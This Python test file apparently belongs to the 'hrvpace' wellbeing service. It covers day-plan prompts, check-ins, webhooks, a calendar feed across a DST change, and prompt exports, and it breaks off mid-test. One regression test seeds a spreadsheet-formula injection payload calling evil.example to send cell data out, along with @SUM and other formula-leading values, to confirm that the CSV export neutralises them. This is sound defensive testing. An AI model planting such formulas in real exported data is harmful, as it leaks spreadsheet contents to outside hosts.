"""The day plan through the real service: a set clock, prompts stored and answered, the prompt
message on a live socket, webhooks against a local receiver, and the calendar feed."""

from __future__ import annotations

import contextlib
import csv
import json
import threading
import time
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import icalendar
import pytest
from typer.testing import CliRunner
from websockets.sync.client import connect

from api.cli import app as cli_app
from api.dayplan import CALENDAR_ID_KEY
from api.messages import PromptMessage, parse_live_message
from tests._clock import BERLIN, SetClock, berlin
from tests.api.conftest import Server, _Servers, wait_for


@pytest.fixture
def clocked(serve: Callable[..., Server]) -> tuple[Server, SetClock]:
    clock = SetClock(berlin(2026, 12, 7, 8, 0))  # a Monday
    server = serve(plan_clock=lambda tz: clock, webhook_backoff_s=0.05)
    # the default plan with seed 0, so the randomised check-in's time is the one these tests
    # know (each install draws its own seed otherwise)
    with server.client() as c:
        plan = c.get("/api/v1/dayplan").json()
        assert c.put("/api/v1/dayplan", json={**plan, "seed": 0}).status_code == 200
    return server, clock


def _prompts(server: Server, **params: Any) -> list[dict[str, Any]]:
    with server.client() as c:
        r = c.get("/api/v1/prompts", params=params)
        assert r.status_code == 200, r.text
        return list(r.json()["prompts"])


def _wait_prompt(server: Server, key_end: str, state: str = "sent") -> dict[str, Any]:
    def found() -> dict[str, Any] | None:
        return next(
            (p for p in _prompts(server) if p["key"].endswith(key_end) and p["state"] == state),
            None,
        )

    result: dict[str, Any] = wait_for(found, timeout_s=10, what=f"prompt {key_end} {state}")
    return result


def test_default_plan_and_invalid_plans(clocked: tuple[Server, SetClock]) -> None:
    server, _ = clocked
    with server.client() as c:
        plan = c.get("/api/v1/dayplan").json()
        assert plan["timezone"] == "Europe/Berlin"
        assert plan["working_days"] == [1, 2, 3, 4, 5]
        kinds = {i["kind"] for i in plan["interventions"]}
        assert kinds == {
            "morning_prompt",
            "breathing_reset",
            "detox_reminder",
            "evening_reflection",
            "checkin",
        }
        assert plan["default_texts"]["morning_prompt"] == (
            "What are you looking forward to most today?"
        )
        assert plan["calendar_feed_url"].startswith(f"{server.url}/api/v1/calendar.ics?token=")
        assert [i["key"] for i in plan["optional_checkin_items"]] == [
            "workload",
            "sleep_quality",
            "wellbeing",
            "context",
        ]
        # the plan read back and sent whole (read-only fields included) is accepted
        r = c.put("/api/v1/dayplan", json=plan)
        assert r.status_code == 200, r.text
        assert r.json() == plan
        bad = dict(plan, work_start="18:00", work_end="09:00")
        r = c.put("/api/v1/dayplan", json=bad)
        assert r.status_code == 422
        assert r.headers["content-type"].startswith("application/problem+json")
        assert r.json()["code"] == "invalid_dayplan"
        assert "working hours" in r.json()["detail"]
        r = c.put("/api/v1/dayplan", json={"timezone": "Mars/Olympus"})
        assert r.status_code == 422 and "Mars/Olympus" in r.json()["detail"]
        # a plan in another language, saved and read back
        r = c.put(
            "/api/v1/dayplan",
            json={
                "timezone": "America/New_York",
                "interventions": [
                    {
                        "id": "m",
                        "kind": "morning_prompt",
                        "start": "09:15",
                        "text": "¿Qué te ilusiona hoy?",
                    }
                ],
            },
        )
        assert r.status_code == 200, r.text
        again = c.get("/api/v1/dayplan").json()
        assert again["timezone"] == "America/New_York"
        assert again["interventions"][0]["text"] == "¿Qué te ilusiona hoy?"
        assert again["interventions"][0]["start"] == "09:15:00"


def test_prompts_fire_on_the_plan_clock_and_are_answered(
    clocked: tuple[Server, SetClock], tmp_path: Path
) -> None:
    server, clock = clocked
    clock.set(berlin(2026, 12, 7, 8, 59))
    with server.client() as c:
        assert c.get("/api/v1/prompts").json()["prompts"] == []
    clock.set(berlin(2026, 12, 7, 9, 0, 30))
    morning = _wait_prompt(server, ":morning")
    assert morning["kind"] == "morning_prompt"
    assert morning["text"] == "What are you looking forward to most today?"
    assert morning["due_at"] == berlin(2026, 12, 7, 9, 0).timestamp()
    clock.set(berlin(2026, 12, 7, 9, 2, 30))
    with server.client() as c:
        r = c.post(f"/api/v1/prompts/{morning['id']}/answer", json={})
        assert r.status_code == 422 and r.json()["code"] == "invalid_answer"
        r = c.post(f"/api/v1/prompts/{morning['id']}/answer", json={"text": "Lunch with Ana"})
        assert r.status_code == 200, r.text
        done = r.json()
        assert done["state"] == "answered"
        assert done["answer_text"] == "Lunch with Ana"
        assert done["response_latency_s"] == pytest.approx(120.0)
        r = c.post(f"/api/v1/prompts/{morning['id']}/answer", json={"text": "again"})
        assert r.status_code == 409 and r.json()["code"] == "prompt_closed"
        assert c.post("/api/v1/prompts/99999/dismiss").status_code == 404

    # the randomised morning check-in falls in 10:00-12:00
    clock.set(berlin(2026, 12, 7, 12, 0))
    checkin = _wait_prompt(server, ":checkin-am")
    local = datetime.fromtimestamp(checkin["due_at"], tz=BERLIN)
    assert 10 <= local.hour < 12
    assert [i["key"] for i in checkin["items"]] == ["stress", "energy"]
    assert checkin["items"][0]["anchor_high"] == "very stressed"
    with server.client() as c:
        r = c.post(
            f"/api/v1/prompts/{checkin['id']}/answer",
            json={"items": [{"key": "stress", "value": 9}, {"key": "energy", "value": 3}]},
        )
        assert r.status_code == 422
        assert "items[0] (stress): value must be 1-5" in r.json()["detail"]
        # an item answered twice: refused, naming it (the later value used to replace the first)
        twice = [{"key": "stress", "value": 5}, {"key": "stress", "value": 1}]
        r = c.post(
            f"/api/v1/prompts/{checkin['id']}/answer",
            json={"items": [*twice, {"key": "energy", "value": 3}]},
        )
        assert r.status_code == 422 and r.json()["code"] == "invalid_answer", r.text
        assert "items[1]: 'stress' is answered twice (items[0] too)" in r.json()["detail"]
        answered = c.get("/api/v1/prompts", params={"state": "answered"}).json()
        assert answered["total"] == 1  # the morning prompt: the check-in is still open
        r = c.post(
            f"/api/v1/prompts/{checkin['id']}/answer",
            json={
                "items": [{"key": "stress", "value": 2}, {"key": "energy", "value": 4}],
                "note": "after standup",
            },
        )
        assert r.status_code == 200, r.text
        answers = {a["key"]: a for a in r.json()["answers"]}
        assert answers["stress"]["value"] == 2
        assert answers["stress"]["anchor_low"] == "very relaxed"
        assert (answers["energy"]["scale_min"], answers["energy"]["scale_max"]) == (1, 5)
        # also a check-in of the history, and the answer says which
        checkins = c.get("/api/v1/checkins").json()["checkins"]
        assert [(x["stress"], x["energy"], x["note"]) for x in checkins] == [
            (2, 4, "after standup")
        ]
        assert r.json()["checkin_id"] == checkins[0]["id"]
        assert r.json()["checkin_missing"] == []
    # the unanswered... nothing else was due before 12:00 and the morning prompt was answered
    states = {p["key"].split(":")[1]: p["state"] for p in _prompts(server)}
    assert states == {"morning": "answered", "checkin-am": "answered"}

    # hrvpace export --prompts: the answers with their latency, and the compliance summary
    out = tmp_path / "export"
    result = CliRunner().invoke(
        cli_app,
        ["export", "--prompts", "--out", str(out), "--data-dir", str(server.settings.data_dir)],
    )
    assert result.exit_code == 0, result.output
    with (out / "prompts.csv").open() as f:
        rows = list(csv.DictReader(f))
    assert [r["kind"] for r in rows] == ["morning_prompt", "checkin"]
    assert float(rows[0]["response_latency_s"]) == pytest.approx(120.0)
    assert rows[0]["answer_text"] == "Lunch with Ana"
    with (out / "prompt_answers.csv").open() as f:
        items = list(csv.DictReader(f))
    assert [(i["item_key"], i["value"], i["anchor_high"]) for i in items] == [
        ("stress", "2", "very stressed"),
        ("energy", "4", "full of energy"),
    ]
    summary = json.loads((out / "prompts.json").read_text())
    assert (summary["n_sent"], summary["n_answered"], summary["compliance"]) == (2, 2, 1.0)
    nothing = CliRunner().invoke(cli_app, ["export", "--out", str(out)])
    assert nothing.exit_code == 2


def test_a_checkin_answer_without_energy_says_it_made_no_checkin_row(
    clocked: tuple[Server, SetClock],
) -> None:
    server, clock = clocked
    clock.set(berlin(2026, 12, 7, 12, 0))
    checkin = _wait_prompt(server, ":checkin-am")
    with server.client() as c:
        r = c.post(
            f"/api/v1/prompts/{checkin['id']}/answer",
            json={"items": [{"key": "stress", "value": 4}]},
        )
        assert r.status_code == 200, r.text
        answered = r.json()
        assert answered["state"] == "answered"
        assert [(a["key"], a["value"]) for a in answered["answers"]] == [("stress", 4)]
        # stored with the prompt only: no check-in row, and the answer tells the app so
        assert c.get("/api/v1/checkins").json()["total"] == 0
        assert answered["checkin_id"] is None
        assert answered["checkin_missing"] == ["energy"]
        doc = c.get("/api/v1/openapi.json").json()
        answer_out = doc["components"]["schemas"]["AnswerOut"]["properties"]
        assert "null when it made none" in answer_out["checkin_id"]["description"]


def test_missed_prompt_expires_and_reset_skipped_after_a_break(
    clocked: tuple[Server, SetClock],
) -> None:
    server, clock = clocked
    storage = server.app.state.storage
    # a long break from 08:55, taken on the demo's simulated person (a break is the person's
    # doing whatever the session's source): the 09:00 morning prompt waits for it...
    storage.create_session(
        "sim", created_at=0.0, mode="monitor", source={"kind": "simulator"}, options={}
    ).result(timeout=10)
    storage.add_micro_break(
        session_id="sim",
        t_s=None,
        recorded_at=berlin(2026, 12, 7, 8, 55).timestamp(),
        kind="break_started",
        data={},
    )
    storage.flush().result(timeout=10)
    clock.set(berlin(2026, 12, 7, 9, 0, 30))
    time.sleep(2.5)  # two evaluations at least
    assert _prompts(server) == []
    # ...and, still in the break an hour later, it is missed (never sent)
    clock.set(berlin(2026, 12, 7, 10, 0, 30))
    missed = _wait_prompt(server, ":morning", state="expired")
    assert missed["reason"] == "missed" and missed["sent_at"] is None
    storage.add_micro_break(
        session_id=None,
        t_s=None,
        recorded_at=berlin(2026, 12, 7, 10, 5).timestamp(),
        kind="break_ended",
        data={},
    )
    # a break that ended 10 minutes before the 12:30 reset: the reset is skipped
    ended = berlin(2026, 12, 7, 12, 20).timestamp()
    storage.add_micro_break(
        session_id=None, t_s=None, recorded_at=ended - 300, kind="break_started", data={}
    )
    storage.add_micro_break(
        session_id=None, t_s=None, recorded_at=ended, kind="break_ended", data={}
    )
    storage.flush().result(timeout=10)
    clock.set(berlin(2026, 12, 7, 12, 30, 5))
    skipped = _wait_prompt(server, ":reset-lunch", state="skipped")
    assert skipped["reason"] == "recent_break"
    # the planned check-in (11:51 with seed 0) is sent now, late but within its hour; the ended
    # break also asked for a signal-contingent check-in, due at 12:22: with the planned one
    # open it is skipped (one check-in card at a time)
    planned = _wait_prompt(server, ":checkin-am")
    signal = _wait_prompt(server, f"break:{int(ended)}", state="skipped")
    assert signal["trigger"] == "break" and signal["kind"] == "checkin"
    assert signal["reason"] == "checkin_open"
    # a sent prompt nobody answers expires an hour after it was due
    clock.set(berlin(2026, 12, 7, 13, 23))
    expired = _wait_prompt(server, ":checkin-am", state="expired")
    assert expired["expired_at"] == pytest.approx(planned["expires_at"])


def test_prompt_message_on_every_live_socket(clocked: tuple[Server, SetClock]) -> None:
    server, clock = clocked
    with server.client() as c:
        ids = []
        for seed in (1, 2):
            r = c.post(
                "/api/v1/sessions",
                json={"source": {"kind": "simulator", "seed": seed, "speed": 1}},
            )
            assert r.status_code == 201, r.text
            ids.append(r.json()["id"])
    with contextlib.ExitStack() as stack:
        sockets = [
            stack.enter_context(
                connect(
                    f"{server.ws_url}/api/v1/sessions/{i}/live?token={server.token}",
                    open_timeout=10,
                )
            )
            for i in ids
        ]
        for ws in sockets:  # the welcome status: subscribed
            assert parse_live_message(ws.recv(timeout=10)).type == "status"
        clock.set(berlin(2026, 12, 7, 9, 0, 10))
        for ws, sid in zip(sockets, ids, strict=True):
            while True:
                m = parse_live_message(ws.recv(timeout=10))
                if m.type == "prompt":
                    break
            assert isinstance(m, PromptMessage)
            assert m.session_id == sid
            assert m.event == "sent"
            assert m.prompt.kind == "morning_prompt"


class Receiver:
    """A local HTTP server standing in for Slack/Teams: answers 500 to the first ``fail``
    requests, then 200; keeps every body."""

    def __init__(self, fail: int) -> None:
        self.fail = fail
        self.bodies: list[tuple[str, Any]] = []
        self.statuses: list[int] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                n = int(self.headers.get("Content-Length", "0"))
                body = json.loads(self.rfile.read(n))
                receiver.bodies.append((self.path, body))
                status = 500 if len(receiver.bodies) <= receiver.fail else 200
                receiver.statuses.append(status)
                self.send_response(status)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    r = Receiver(fail=1)
    yield r
    r.close()


def test_a_test_delivery_carries_its_time_as_the_stored_one_does(
    clocked: tuple[Server, SetClock], receiver: Receiver
) -> None:
    """The review: ``POST /webhooks/test`` said ``"at": null`` while ``GET /webhooks`` showed the
    delivery's time."""
    server, _ = clocked
    with server.client() as c:
        hooks = {"webhooks": [{"url": f"{receiver.url}/teams", "kind": "teams"}]}
        assert c.put("/api/v1/webhooks", json=hooks).status_code == 200
        before = time.time()
        test = c.post("/api/v1/webhooks/test").json()["deliveries"]
        listed = c.get("/api/v1/webhooks").json()["deliveries"]
    assert len(test) == 1 and test[0]["ok"]
    assert test[0]["at"] is not None and before <= test[0]["at"] <= time.time()
    assert test[0]["at"] == listed[0]["at"]


def test_webhooks_retry_after_a_500_and_carry_slack_and_teams_payloads(
    clocked: tuple[Server, SetClock], receiver: Receiver
) -> None:
    server, clock = clocked
    with server.client() as c:
        r = c.put(
            "/api/v1/webhooks",
            json={"webhooks": [{"url": f"{receiver.url}/slack", "kind": "slack"}]},
        )
        assert r.status_code == 200, r.text
        test = c.post("/api/v1/webhooks/test").json()["deliveries"]
        assert [(d["ok"], d["attempts"], d["status"]) for d in test] == [(True, 2, 200)]
        assert receiver.statuses == [500, 200]
        assert receiver.bodies[0] == receiver.bodies[1]
        path, body = receiver.bodies[1]
        assert path == "/slack" and set(body) == {"text"} and "Test message" in body["text"]

        for bad in ("ftp://example.org/x", "http://exa\x00mple.org/", "http:///nohost"):
            r = c.put("/api/v1/webhooks", json={"webhooks": [{"url": bad, "kind": "slack"}]})
            assert r.status_code == 422, bad
            assert r.json()["errors"][0]["loc"][-1] == "url"

        closed = "http://127.0.0.1:9/nobody"  # the discard port: nobody listens
        c.put(
            "/api/v1/webhooks",
            json={
                "webhooks": [
                    {"url": f"{receiver.url}/teams", "kind": "teams"},
                    {"url": closed, "kind": "slack"},
                ]
            },
        )
    clock.set(berlin(2026, 12, 7, 12, 30, 1))
    # the reset (and the morning check-in before it: the clock jumped) reach the receiver
    wait_for(
        lambda: any(
            p == "/teams" and "2-minute breathing reset" in json.dumps(b)
            for p, b in receiver.bodies
        ),
        what="the reset at the Teams receiver",
    )
    card = next(b for p, b in receiver.bodies if p == "/teams" and "reset" in json.dumps(b))
    assert card["type"] == "message"
    content = card["attachments"][0]["content"]
    assert card["attachments"][0]["contentType"] == "application/vnd.microsoft.card.adaptive"
    assert content["type"] == "AdaptiveCard"
    assert content["body"][0]["text"] == "Breathing reset"

    def failure_shown() -> dict[str, Any] | None:
        with server.client() as c:
            hooks = c.get("/api/v1/webhooks").json()["webhooks"]
        bad = next(h for h in hooks if h["url"] == closed)
        return bad if bad["failures"] else None

    bad = wait_for(failure_shown, timeout_s=15, what="the failed delivery in GET /webhooks")
    assert bad["last_delivery"]["ok"] is False
    assert bad["last_delivery"]["attempts"] == 4
    assert bad["last_delivery"]["status"] is None
    assert bad["last_delivery"]["error"] == "connection refused"  # a category, not exc text


def test_calendar_feed_local_times_across_a_dst_change(
    clocked: tuple[Server, SetClock],
) -> None:
    server, clock = clocked
    clock.set(berlin(2026, 3, 25, 6, 0))  # Wednesday; Berlin springs forward on Sunday 29 March
    with server.client() as c:
        feed_url = c.get("/api/v1/dayplan").json()["calendar_feed_url"]
    feed_token = feed_url.split("token=", 1)[1]
    import httpx

    r = httpx.get(feed_url, timeout=30)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/calendar")
    cal = icalendar.Calendar.from_ical(r.content)
    events = list(cal.walk("VEVENT"))
    assert cal.walk("VTIMEZONE")[0]["TZID"] == "Europe/Berlin"
    starts = sorted((e.decoded("dtstart"), str(e["summary"])) for e in events)
    # 5 working days in the next 7 (Wed 25 .. Tue 31 March), a reset and a detox reminder each
    assert len(starts) == 10
    days = sorted({s.date().isoformat() for s, _ in starts})
    assert days == ["2026-03-25", "2026-03-26", "2026-03-27", "2026-03-30", "2026-03-31"]
    for start, summary in starts:
        local = start.astimezone(BERLIN)
        utc_hour = start.astimezone(ZoneInfo("UTC")).hour
        before = local.date().day < 29
        if summary == "Mental reset: breathing":
            assert (local.hour, local.minute) == (12, 30)
            assert utc_hour == (11 if before else 10)
        else:
            assert summary == "Mental reset: away from screens"
            assert (local.hour, local.minute) == (15, 30)
        assert events[0]["categories"].cats == ["mental reset"]
    # the API token works too, in the header only (attacker review: never in a URL); a wrong
    # token does not; the feed token opens nothing else
    assert httpx.get(f"{server.url}/api/v1/calendar.ics", headers=server.auth).status_code == 200
    api_token = server.auth["Authorization"].removeprefix("Bearer ")
    in_url = httpx.get(f"{server.url}/api/v1/calendar.ics?token={api_token}")
    assert in_url.status_code == 401 and in_url.json()["code"] == "unauthorized"
    wrong = httpx.get(f"{server.url}/api/v1/calendar.ics?token=nope")
    assert wrong.status_code == 401 and wrong.json()["code"] == "unauthorized"
    assert httpx.get(f"{server.url}/api/v1/calendar.ics").status_code == 401
    other = httpx.get(
        f"{server.url}/api/v1/prompts", headers={"Authorization": f"Bearer {feed_token}"}
    )
    assert other.status_code == 401
    assert httpx.get(f"{server.url}/api/v1/prompts?token={feed_token}").status_code == 401


def _feed(server: Server) -> icalendar.Calendar:
    import httpx

    r = httpx.get(f"{server.url}/api/v1/calendar.ics", headers=server.auth, timeout=30)
    assert r.status_code == 200, r.text
    return icalendar.Calendar.from_ical(r.content)


def test_calendar_uids_are_this_installs_and_todays_past_slots_stay(
    clocked: tuple[Server, SetClock], serve: Callable[..., Server], tmp_path: Path
) -> None:
    """The review: every install's UIDs were ``2026-12-07:reset-lunch@hrvpace`` (a calendar with
    two people's feeds merged their slots), and the 12:30 reset left the feed at 12:31."""
    server, clock = clocked
    clock.set(berlin(2026, 12, 7, 16, 0))  # Monday afternoon: the 12:30 reset and 15:30 are past
    first = {str(e["uid"]): e for e in _feed(server).walk("VEVENT")}
    today = sorted(
        (e.decoded("dtstart").astimezone(BERLIN).strftime("%H:%M"), str(e["summary"]))
        for e in first.values()
        if e.decoded("dtstart").astimezone(BERLIN).date().isoformat() == "2026-12-07"
    )
    assert today == [
        ("12:30", "Mental reset: breathing"),
        ("15:30", "Mental reset: away from screens"),
    ]
    again = {str(e["uid"]) for e in _feed(server).walk("VEVENT")}
    assert again == set(first)  # stable from one fetch to the next
    restarted = serve(plan_clock=lambda tz: clock)  # the same data dir, the service again
    assert {str(e["uid"]) for e in _feed(restarted).walk("VEVENT")} == set(first)
    others = _Servers(tmp_path / "another-install")
    try:
        other = others.start(plan_clock=lambda tz: clock)
        theirs = {str(e["uid"]) for e in _feed(other).walk("VEVENT")}
    finally:
        others.stop_all()
    assert theirs and not theirs & set(first)
    assert all(u.startswith("2026-12-") and u.endswith("@hrvpace") for u in first)


def test_calendar_time_zone_onsets_are_in_the_prior_offset(
    clocked: tuple[Server, SetClock],
) -> None:
    """RFC 5545 3.6.5/3.8.3.3: an observance's DTSTART and RDATEs are local times in its
    TZOFFSETFROM (New York's daylight time: ``DTSTART:19870405T020000``, from -0500).
    icalendar wrote spring-forward onsets as 03:00, an hour after the real change."""
    server, _ = clocked
    for zone in ("Europe/Berlin", "America/New_York"):
        with server.client() as c:
            plan = c.get("/api/v1/dayplan").json()
            assert c.put("/api/v1/dayplan", json={**plan, "timezone": zone}).status_code == 200
        tz = ZoneInfo(zone)
        (vtimezone,) = _feed(server).walk("VTIMEZONE")
        checked = 0
        for sub in vtimezone.subcomponents:
            offset_from, offset_to = sub["TZOFFSETFROM"].td, sub["TZOFFSETTO"].td
            if offset_from == offset_to:
                continue
            rdates = sub.get("RDATE", [])
            onsets = [sub.DTSTART] + [
                d.dt for r in (rdates if isinstance(rdates, list) else [rdates]) for d in r.dts
            ]
            for local in onsets:
                instant = (local - offset_from).replace(tzinfo=ZoneInfo("UTC"))
                before = (instant - timedelta(seconds=1)).astimezone(tz).utcoffset()
                assert (before, instant.astimezone(tz).utcoffset()) == (offset_from, offset_to), (
                    zone,
                    sub.name,
                    local,
                )
                checked += 1
            if sub.name == "DAYLIGHT":
                assert sub.DTSTART.hour == 2, (zone, sub.DTSTART)
        assert checked > 100


def test_dashboard_puts_checkins_beside_resting_rmssd_and_break_effects(
    clocked: tuple[Server, SetClock],
) -> None:
    server, clock = clocked
    storage = server.app.state.storage
    clock.set(berlin(2026, 12, 9, 18, 0))  # Wednesday evening
    for d in (7, 8):
        start = berlin(2026, 12, d, 8, 0).timestamp()
        # the day's first strap session: windows at 60..600 s, RMSSD 30 + the window's minute
        storage.create_session(
            f"ble-{d}", created_at=start, mode="monitor", source={"kind": "ble"}, options={}
        ).result(timeout=10)
        for t in range(60, 605, 60):
            storage.add_snapshot(
                "metrics",
                f"ble-{d}",
                t_s=float(t),
                recorded_at=start + t,
                data={"rmssd_ms": 30.0 + t / 60 + (d - 7) * 10},
            )
        # a later strap session and a simulation do not count as the resting measure
        storage.create_session(
            f"ble-{d}-late",
            created_at=start + 3600,
            mode="monitor",
            source={"kind": "ble"},
            options={},
        ).result(timeout=10)
        storage.add_snapshot(
            "metrics", f"ble-{d}-late", t_s=60.0, recorded_at=start + 3660, data={"rmssd_ms": 99.0}
        )
        storage.create_session(
            f"sim-{d}",
            created_at=start - 60,
            mode="monitor",
            source={"kind": "simulator"},
            options={},
        ).result(timeout=10)
        storage.add_snapshot(
            "metrics", f"sim-{d}", t_s=60.0, recorded_at=start, data={"rmssd_ms": 1.0}
        )
    for d, stress, energy in ((7, 4, 2), (7, 2, 4), (8, 1, 5)):
        storage.add_checkin(
            session_id=None,
            at=berlin(2026, 12, d, 11, 0).timestamp(),
            stress=stress,
            energy=energy,
            note="",
        ).result(timeout=10)
    effects = [(7, "breathing", 20.0), (8, "breathing", 10.0), (8, "walk", -5.0)]
    for d, kind, change in effects:
        storage.add_micro_break(
            session_id=None,
            t_s=None,
            recorded_at=berlin(2026, 12, d, 15, 0).timestamp(),
            kind="break_effect",
            data={
                "kind": kind,
                "rmssd_before_ms": 30.0,
                "rmssd_after_ms": 30.0 * (1 + change / 100),
                "rmssd_change_pct": change,
            },
        )
    # a strap practice session on Tuesday: RMSSD 20 ms in its first window, 35 ms in its last;
    # a simulated person's practice and break that day are not the person's
    practice_start = berlin(2026, 12, 8, 13, 0).timestamp()
    for sid, kind in (("practice-8", "ble"), ("sim-practice-8", "simulator")):
        storage.create_session(
            sid, created_at=practice_start, mode="practice", source={"kind": kind}, options={}
        ).result(timeout=10)
        for t_s, v in ((60.0, 20.0), (65.0, 22.0), (300.0, 35.0)):
            storage.add_snapshot(
                "metrics", sid, t_s=t_s, recorded_at=practice_start + t_s, data={"rmssd_ms": v}
            )
    storage.add_micro_break(
        session_id="sim-practice-8",
        t_s=400.0,
        recorded_at=practice_start + 400,
        kind="break_effect",
        data={"kind": "walk", "rmssd_change_pct": 50.0},
    )
    storage.flush().result(timeout=10)
    with server.client() as c:
        r = c.get("/api/v1/dashboard", params={"days": 7})
        assert r.status_code == 200, r.text
        out = r.json()
    assert out["timezone"] == "Europe/Berlin"
    by_day = {d["day"]: d for d in out["days"]}
    assert sorted(by_day) == ["2026-12-07", "2026-12-08"]
    mon, tue = by_day["2026-12-07"], by_day["2026-12-08"]
    assert (mon["n_checkins"], mon["mean_stress"], mon["mean_energy"]) == (2, 3.0, 3.0)
    assert (tue["mean_stress"], tue["mean_energy"]) == (1.0, 5.0)
    # windows ending at 60..360 s: RMSSD 31..36, median 33.5 (and 43.5 a day later)
    assert (mon["resting_rmssd_ms"], mon["resting_n_windows"]) == (33.5, 6)
    assert tue["resting_rmssd_ms"] == 43.5
    assert [b["rmssd_change_pct"] for b in tue["breaks"]] == [10.0, -5.0]
    assert mon["practice"] == []
    [practice] = tue["practice"]
    assert practice["session_id"] == "practice-8" and practice["duration_s"] == 300.0
    assert (practice["rmssd_first_ms"], practice["rmssd_last_ms"]) == (20.0, 35.0)
    assert practice["rmssd_change_pct"] == pytest.approx(75.0)
    week = {w["kind"]: w for w in out["week"]}
    assert week["breathing"] == {"kind": "breathing", "n": 2, "mean_rmssd_change_pct": 15.0}
    assert week["walk"]["n"] == 1 and week["walk"]["mean_rmssd_change_pct"] == -5.0


def test_an_unusable_stored_plan_falls_back_to_the_default(serve: Any) -> None:
    from api.dayplan import PLAN_KEY
    from api.settings import load_settings

    first = serve()
    # a plan stored by an older version with a value this version cannot read (a zone this
    # system does not know only changes the zone: test_dayplan_zone)
    first.app.state.storage.put_value(
        "settings", PLAN_KEY, {"timezone": "Asia/Tokyo", "work_start": "9 o'clock"}, updated_at=0.0
    ).result(timeout=10)
    # a service started on that data (the one-server lock is the CLI's) starts, with the default
    second = serve(settings=load_settings(data_dir=first.settings.data_dir, token="test-token"))
    with second.client() as c:
        assert c.get("/api/v1/dayplan").json()["timezone"] == "Europe/Berlin"


def test_prompts_expired_before_the_service_started_are_not_recorded(
    serve: Callable[..., Server],
) -> None:
    clock = SetClock(berlin(2026, 12, 7, 18, 30))  # Monday evening: every prompt is over
    server = serve(plan_clock=lambda tz: clock)
    time.sleep(2.5)  # two evaluations at least
    assert _prompts(server) == []
    # the next working day's prompts are recorded as usual
    clock.set(berlin(2026, 12, 8, 9, 0, 30))
    assert _wait_prompt(server, ":morning")["key"] == "2026-12-08:morning"


def test_each_install_draws_its_own_seed_and_a_put_without_one_keeps_it(
    serve: Callable[..., Server], tmp_path: Path
) -> None:
    """With one seed for all (0), every install pinged at the same "random" moment."""
    from api.settings import load_settings

    one = serve(settings=load_settings(data_dir=tmp_path / "one", token="test-token"))
    two = serve(settings=load_settings(data_dir=tmp_path / "two", token="test-token"))
    with one.client() as c1, two.client() as c2:
        seed1 = c1.get("/api/v1/dayplan").json()["seed"]
        seed2 = c2.get("/api/v1/dayplan").json()["seed"]
        assert seed1 != seed2  # 1 in 2**31 to fail by chance
        # a plan sent without seed keeps the install's; one with a seed sets it
        plan = c1.get("/api/v1/dayplan").json()
        plan.pop("seed")
        assert c1.put("/api/v1/dayplan", json=plan).json()["seed"] == seed1
        assert c1.put("/api/v1/dayplan", json={**plan, "seed": 7}).json()["seed"] == 7
    # the seed is the data dir's: a restart on it keeps it
    again = serve(settings=load_settings(data_dir=two.settings.data_dir, token="test-token"))
    with again.client() as c:
        assert c.get("/api/v1/dayplan").json()["seed"] == seed2


def test_export_prompts_writes_its_files_whole_or_not_at_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Code review: ``hrvpace export --prompts`` wrote prompts.csv, prompt_answers.csv and
    prompts.json in place, so a failure midway (a full disk) left an earlier export half
    replaced: a new prompts.csv beside a truncated prompt_answers.csv. All three are written
    under temporary names first, then moved in; the error names the file that failed."""
    import csv
    import errno

    from api.dayplan import export_prompts
    from api.storage import Storage

    db = tmp_path / "hrvpace.sqlite3"
    Storage(db).close()
    out = tmp_path / "out"
    out.mkdir()
    names = ("prompts.csv", "prompt_answers.csv", "prompts.json")
    for name in names:
        (out / name).write_text(f"earlier {name}\n")
    real_writer = csv.writer
    calls: list[object] = []

    def writer(f: object, *args: object, **kwargs: object) -> object:
        calls.append(f)
        if len(calls) == 2:  # the answers table: the disk is full
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_writer(f, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(csv, "writer", writer)
    with pytest.raises(OSError, match="No space left") as failed:
        export_prompts(db, out)
    monkeypatch.undo()
    assert {p.name: p.read_text() for p in out.iterdir()} == {
        name: f"earlier {name}\n" for name in names
    }  # nothing replaced, no temporary file left
    assert failed.value.filename == str(out / "prompt_answers.csv")
    assert [p.name for p in export_prompts(db, out)] == list(names)
    assert (out / "prompts.csv").read_text().startswith("id,")
    assert sorted(p.name for p in out.iterdir()) == sorted(names)


def test_export_prompts_writes_typed_text_as_text_not_as_a_spreadsheet_formula(
    tmp_path: Path,
) -> None:
    """Attacker review (2026-12-06): the prompt CSVs go to a researcher's spreadsheet, and a
    typed answer ``=HYPERLINK("http://evil.example/?d="&A2)`` was written raw: a live formula.
    Text cells starting with = + - @ tab or CR get a leading ``'``; numbers stay numbers."""
    import csv

    from api.dayplan import export_prompts
    from api.research.units import csv_cell
    from api.storage import Storage

    evil = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
    db = tmp_path / "hrvpace.sqlite3"
    storage = Storage(db)
    try:
        for key, text, note, item in (
            ("r", evil, "+1 tired", None),
            ("c", None, "\tnote", {"key": "mood", "label": "@SUM(A1)", "anchor_low": "-low",
                                    "anchor_high": "\rhigh"}),
        ):  # fmt: skip
            storage.add_prompt(
                key=key,
                kind="checkin",
                trigger="planned",
                text="How are you?",
                state="sent",
                due_at=100.0,
                expires_at=3700.0,
                at=100.0,
                items=[] if item is None else [item],
            ).result(timeout=10)
            pid = max(r[0] for r in storage.query("SELECT id FROM prompts"))
            answered = [] if item is None else [{**item, "value": -3, "choice": "-2+3"}]
            storage.answer_prompt(pid, at=160.5, text=text, note=note, items=answered).result(
                timeout=10
            )
    finally:
        storage.close()
    out = tmp_path / "out"
    export_prompts(db, out)
    with (out / "prompts.csv").open(newline="") as f:
        prompts = list(csv.DictReader(f))
    with (out / "prompt_answers.csv").open(newline="") as f:
        (answer,) = list(csv.DictReader(f))
